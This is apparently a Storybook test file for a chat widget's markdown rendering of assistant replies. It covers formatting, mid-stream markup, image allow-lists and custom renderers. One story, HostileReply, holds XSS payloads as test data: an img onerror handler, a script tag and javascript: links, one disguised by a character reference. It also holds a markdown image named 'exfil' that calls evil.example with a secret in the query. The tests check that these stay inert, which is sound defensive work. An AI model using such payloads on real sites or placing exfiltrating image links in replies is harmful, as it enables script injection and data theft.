/**
 * Replies in markdown: a formatted answer, every element it supports, markup cut off
 * mid-stream, a hostile reply that must stay inert, images from allowed hosts, and the host
 * turning markdown off or rendering replies itself.
 */
import type { Meta, StoryObj } from '@storybook/react-vite';
import { expect, within } from 'storybook/test';
import { ChatPanel } from '../src/components/chat-panel.tsx';
import type { ChatEvent } from '../src/core/reduce.ts';
import diagramPath from './chat-diagram.svg?no-inline';
import { assistantSaid, assistantStreaming, connected, Seeded, userSaid } from './seed.tsx';
import { expectExternalLink, expectOnlySafeLinks, replyIn } from './support.tsx';

const meta = { title: 'Markdown', component: ChatPanel } satisfies Meta<typeof ChatPanel>;

export default meta;
type Story = StoryObj<typeof meta>;

/** The greeting, the user's `question`, and the complete reply `text` to it. */
const answered = (question: string, messageId: string, text: string): ChatEvent[] => [
  ...connected(),
  userSaid('user:1', question),
  ...assistantSaid(messageId, text),
];

export const MarkdownHeavyReply: Story = {
  render: () => (
    <Seeded
      events={answered(
        'Give me a formatted answer',
        'msg_md',
        '## Steps\n\n1. **Install** with `npm install chatwire`\n2. Import the *styles*\n\n```tsx\n<ChatWidget token={jwt} />\n```\n\n> Tip: see [the docs](https://example.com).',
      )}
    >
      <ChatPanel />
    </Seeded>
  ),
  play: async ({ canvasElement }) => {
    const reply = replyIn(canvasElement) as HTMLElement;
    await expect(reply).toHaveAttribute('data-status', 'complete');
    const inReply = within(reply);
    // `##` is a level-3 heading: the panel's title is the h2, replies nest right below it.
    await expect(inReply.getByRole('heading', { level: 3, name: 'Steps' })).toBeVisible();
    await expect(reply.querySelector('h1, h2, h4')).toBeNull();
    const steps = reply.querySelectorAll('ol > li');
    await expect(steps).toHaveLength(2);
    await expect(steps[0]).toHaveTextContent('Install with npm install chatwire');
    await expect(steps[0]?.querySelector('strong')).toHaveTextContent('Install');
    await expect(steps[0]?.querySelector('code')).toHaveTextContent('npm install chatwire');
    await expect(steps[1]?.querySelector('em')).toHaveTextContent('styles');
    // The fenced block is code, shown as text: JSX in a reply never becomes an element.
    const block = reply.querySelector('pre[data-slot="code-block"]');
    await expect(block).toHaveAttribute('data-language', 'tsx');
    await expect(block?.textContent).toBe('<ChatWidget token={jwt} />');
    await expect(reply.querySelector('chatwidget')).toBeNull();
    const quote = reply.querySelector('blockquote') as HTMLElement;
    await expect(quote).toHaveTextContent('Tip: see the docs');
    const link = within(quote).getByRole('link', { name: 'the docs (opens in a new tab)' });
    await expectExternalLink(link, 'https://example.com/');
    // No markup is left showing.
    for (const marker of ['##', '**', '```', '](']) {
      await expect(reply).not.toHaveTextContent(marker);
    }
  },
};

const EVERY_ELEMENT = `# Release notes

Plain text with *emphasis*, **strong**, ~~struck~~ and \`inline code\`.
A single line break stays a line break.

### Links

A [titled link](https://example.com/docs "The docs"), a bare https://example.org/start and [mail us](mailto:help@example.com).

- Bullet one
- Bullet two

1. First step
2. Second step

- [x] Shipped
- [ ] Still to do

> Quoted advice,
> over two lines.

| Plan | Price |
| :--- | ---: |
| Free | $0 |
| Pro | $9 |

\`\`\`js
const answer = 42;
\`\`\`

---

The end.`;

export const MarkdownEveryElement: Story = {
  render: () => (
    <Seeded events={answered('Show me everything markdown can do', 'msg_all', EVERY_ELEMENT)}>
      <ChatPanel />
    </Seeded>
  ),
  play: async ({ canvasElement }) => {
    const reply = replyIn(canvasElement) as HTMLElement;
    await expect(reply).toHaveAttribute('data-status', 'complete');
    const inReply = within(reply);
    await expect(inReply.getByRole('heading', { level: 3, name: 'Release notes' })).toBeVisible();
    await expect(inReply.getByRole('heading', { level: 4, name: 'Links' })).toBeVisible();

    const first = reply.querySelector('[data-slot="markdown-group"] > p') as HTMLElement;
    await expect(first.querySelector('em')).toHaveTextContent('emphasis');
    await expect(first.querySelector('strong')).toHaveTextContent('strong');
    await expect(first.querySelector('del')).toHaveTextContent('struck');
    await expect(first.querySelector('code')).toHaveTextContent('inline code');
    // Replies are chat: one line break is a line break, not a space.
    await expect(first.querySelectorAll('br')).toHaveLength(1);

    await expectExternalLink(
      inReply.getByRole('link', { name: 'titled link (opens in a new tab)' }),
      'https://example.com/docs',
    );
    await expect(inReply.getByRole('link', { name: /^titled link/ })).toHaveAttribute(
      'title',
      'The docs',
    );
    await expectExternalLink(
      inReply.getByRole('link', { name: 'https://example.org/start (opens in a new tab)' }),
      'https://example.org/start',
    );
    await expect(inReply.getByRole('link', { name: /^mail us/ })).toHaveAttribute(
      'href',
      'mailto:help@example.com',
    );
    await expectOnlySafeLinks(reply);

    const [bullets, tasks] = [...reply.querySelectorAll('ul')];
    await expect(bullets?.querySelectorAll('li')).toHaveLength(2);
    await expect(bullets).toHaveTextContent('Bullet oneBullet two');
    const numbered = reply.querySelector('ol');
    await expect(numbered?.querySelectorAll('li')).toHaveLength(2);
    await expect(numbered).toHaveTextContent('First stepSecond step');
    // A task's box is drawn for the eye and spoken as words; there is no form control.
    const [shipped, todo] = [...(tasks?.querySelectorAll('li') ?? [])];
    await expect(shipped).toHaveTextContent('Done: Shipped');
    await expect(shipped?.querySelector('[aria-hidden="true"]')?.textContent).toBe('☑');
    await expect(todo).toHaveTextContent('To do: Still to do');
    await expect(todo?.querySelector('[aria-hidden="true"]')?.textContent).toBe('☐');
    await expect(reply.querySelector('input')).toBeNull();

    const quote = reply.querySelector('blockquote');
    await expect(quote?.textContent).toBe('Quoted advice,over two lines.');
    await expect(quote?.querySelectorAll('br')).toHaveLength(1);

    const table = reply.querySelector('[data-slot="table"] > table') as HTMLElement;
    const headers = [...table.querySelectorAll('th')];
    await expect(headers.map((cell) => cell.textContent)).toEqual(['Plan', 'Price']);
    for (const header of headers) await expect(header).toHaveAttribute('scope', 'col');
    await expect(within(table).getByRole('columnheader', { name: 'Price' })).toBeVisible();
    await expect(getComputedStyle(headers[1] as HTMLElement).textAlign).toBe('right');
    const rows = [...table.querySelectorAll('tbody tr')].map((row) =>
      [...row.querySelectorAll('td')].map((cell) => cell.textContent),
    );
    await expect(rows).toEqual([
      ['Free', '$0'],
      ['Pro', '$9'],
    ]);

    const code = reply.querySelector('pre[data-slot="code-block"]');
    await expect(code).toHaveAttribute('data-language', 'js');
    await expect(code?.textContent).toBe('const answer = 42;');
    await expect(reply.querySelectorAll('hr')).toHaveLength(1);
    await expect(
      reply.querySelector('[data-slot="markdown-group"]:last-child > :last-child'),
    ).toHaveTextContent('The end.');
    for (const marker of ['**', '~~', '- [', '| ---', '```', '---']) {
      await expect(reply).not.toHaveTextContent(marker);
    }
  },
};

export const MarkdownMidStream: Story = {
  render: () => (
    <Seeded
      events={[
        ...connected(),
        userSaid('user:1', 'What matters most?'),
        // Cut off inside a bold phrase…
        ...assistantStreaming('msg_bold', 'The ', 'key ', 'point ', 'is ', '**bold ', 'te'),
        userSaid('user:2', 'And how do I install it?'),
        // …and inside a code fence that has not closed yet.
        ...assistantStreaming(
          'msg_fence',
          'Install ',
          'it:\n\n',
          '```tsx\n',
          "import { ChatWidget } from 'chatwire';\n",
          '<ChatWidget ',
          'token',
        ),
      ]}
    >
      <ChatPanel />
    </Seeded>
  ),
  play: async ({ canvasElement }) => {
    const bold = replyIn(canvasElement, 0) as HTMLElement;
    await expect(bold).toHaveAttribute('data-status', 'streaming');
    // The open `**` shows as bold at once, not as asterisks that turn bold later.
    await expect(bold.querySelector('strong')?.textContent).toBe('bold te');
    await expect(bold).toHaveTextContent('The key point is bold te');
    await expect(bold).not.toHaveTextContent('*');

    const fence = replyIn(canvasElement, 1) as HTMLElement;
    await expect(fence).toHaveAttribute('data-status', 'streaming');
    await expect(fence.querySelector('p')).toHaveTextContent('Install it:');
    // The open fence is already a code block, its text arriving inside it.
    const block = fence.querySelector('pre[data-slot="code-block"]');
    await expect(block).toHaveAttribute('data-language', 'tsx');
    await expect(block?.querySelector('code')?.textContent).toBe(
      "import { ChatWidget } from 'chatwire';\n<ChatWidget token",
    );
    await expect(fence).not.toHaveTextContent('```');
    await expect(fence.querySelector('chatwidget')).toBeNull();
  },
};

/** Set by the hostile reply's payloads if any of them ever ran. */
declare global {
  interface Window {
    __chatwireHacked?: unknown;
  }
}

const HOSTILE_REPLY = `Here is the page you asked for:

<img src=x onerror="window.__chatwireHacked=1">

<script>window.__chatwireHacked=1</script>

Try [click](javascript:alert(1)) or [x](&#106;avascript:alert(1)).

![exfil](https://evil.example/?q=secret)`;

export const HostileReply: Story = {
  render: () => (
    <Seeded events={answered('Summarise this web page for me', 'msg_hostile', HOSTILE_REPLY)}>
      <ChatPanel />
    </Seeded>
  ),
  play: async ({ canvasElement }) => {
    const reply = replyIn(canvasElement) as HTMLElement;
    await expect(reply).toHaveAttribute('data-status', 'complete');
    // Raw HTML is shown as the text it is…
    await expect(reply).toHaveTextContent('<img src=x onerror="window.__chatwireHacked=1">');
    await expect(reply).toHaveTextContent('<script>window.__chatwireHacked=1</script>');
    // …and never becomes an element.
    await expect(reply.querySelector('img, script, iframe, object, embed')).toBeNull();
    await expect(document.querySelector('img[src="x"]')).toBeNull();
    // Script URLs, plain or hidden behind a character reference, are not links.
    await expectOnlySafeLinks(reply);
    const blocked = [...reply.querySelectorAll('[data-slot="blocked-link"]')];
    await expect(blocked.map((span) => span.textContent)).toEqual(['click', 'x']);
    await expect(reply.querySelector('[href*="javascript" i]')).toBeNull();
    // The image is not fetched: it is offered as a link the user may choose to follow.
    await expectExternalLink(
      within(reply).getByRole('link', { name: 'exfil (opens in a new tab)' }),
      'https://evil.example/?q=secret',
    );
    await expect(
      performance.getEntriesByType('resource').some(({ name }) => name.includes('evil.example')),
    ).toBe(false);
    await expect(window.__chatwireHacked).toBeUndefined();
  },
};

/**
 * A picture served by the app itself, so the allowed image loads without a network. Not
 * inlined: Vite would turn a small file into a `data:` URL, which chatwire never loads.
 */
const DIAGRAM_URL = new URL(diagramPath, window.location.href).href;

/** Images may load from the app's own origin only; any other host's stays a link. */
const allowOwnImages = (url: URL) => url.origin === window.location.origin;

export const ImagesAllowed: Story = {
  render: () => (
    <Seeded
      events={answered(
        'How does it fit together?',
        'msg_images',
        `Like this:\n\n![Widget talks to server](${DIAGRAM_URL})\n\nElsewhere: ![Tracking pixel](https://tracker.example/pixel.png)`,
      )}
    >
      <ChatPanel allowImage={allowOwnImages} />
    </Seeded>
  ),
  play: async ({ canvasElement }) => {
    const reply = replyIn(canvasElement) as HTMLElement;
    const inReply = within(reply);
    // The allowed host's image is an image, with its alternative text, sending no referrer.
    const image = inReply.getByRole('img', { name: 'Widget talks to server' });
    await expect(image).toHaveAttribute('src', DIAGRAM_URL);
    await expect(image).toHaveAttribute('referrerpolicy', 'no-referrer');
    // Any other host's stays a link, never fetched.
    await expect(reply.querySelectorAll('img')).toHaveLength(1);
    await expectExternalLink(
      inReply.getByRole('link', { name: 'Tracking pixel (opens in a new tab)' }),
      'https://tracker.example/pixel.png',
    );
    await expect(
      performance.getEntriesByType('resource').some(({ name }) => name.includes('tracker.example')),
    ).toBe(false);
  },
};

export const PlainTextReplies: Story = {
  render: () => (
    <Seeded
      events={answered(
        'Where are the docs?',
        'msg_plain',
        'Markup stays as typed: **not bold**, `not code`.\n# Not a heading\nDocs: https://example.com/docs/start.',
      )}
    >
      <ChatPanel renderMarkdown={false} />
    </Seeded>
  ),
  play: async ({ canvasElement }) => {
    const reply = replyIn(canvasElement) as HTMLElement;
    await expect(reply.querySelector('[data-slot="markdown"]')).toBeNull();
    await expect(reply).toHaveTextContent('Markup stays as typed: **not bold**, `not code`.');
    await expect(reply).toHaveTextContent('# Not a heading');
    await expect(reply.querySelector('strong, em, code, h1, h2, h3, h4, h5, h6')).toBeNull();
    // A web address is still a link; the full stop after it is not part of it.
    await expectExternalLink(
      within(reply).getByRole('link', {
        name: 'https://example.com/docs/start (opens in a new tab)',
      }),
      'https://example.com/docs/start',
    );
    await expect(reply.querySelectorAll('a')).toHaveLength(1);
  },
};

/** The host's own reply renderer: here it just shouts, and says whether the reply is done. */
const renderShouting = (text: string, { streaming }: { streaming: boolean }) => (
  <div data-testid="custom-reply" data-streaming={streaming}>
    {text.toUpperCase()}
  </div>
);

export const CustomReplyRenderer: Story = {
  render: () => (
    <Seeded
      events={[
        ...connected(),
        userSaid('user:1', 'Say it loud'),
        ...assistantSaid('msg_loud', '**Shouting** is fine here.'),
        userSaid('user:2', 'Again'),
        ...assistantStreaming('msg_loud_2', 'Still ', 'typ'),
      ]}
    >
      <ChatPanel renderMarkdown={renderShouting} />
    </Seeded>
  ),
  play: async ({ canvasElement }) => {
    const [done, streaming] = within(canvasElement).getAllByTestId('custom-reply');
    // The host's renderer gets the reply's raw text; chatwire's markdown stays out of it.
    await expect(done?.textContent).toBe('**SHOUTING** IS FINE HERE.');
    await expect(done).toHaveAttribute('data-streaming', 'false');
    await expect(streaming?.textContent).toBe('STILL TYP');
    await expect(streaming).toHaveAttribute('data-streaming', 'true');
    await expect(canvasElement.querySelector('[data-slot="markdown"], strong')).toBeNull();
    // It renders inside chatwire's bubble, which keeps the reply's state.
    await expect(streaming?.closest('[data-role="assistant"]')).toHaveAttribute(
      'data-status',
      'streaming',
    );
  },
};
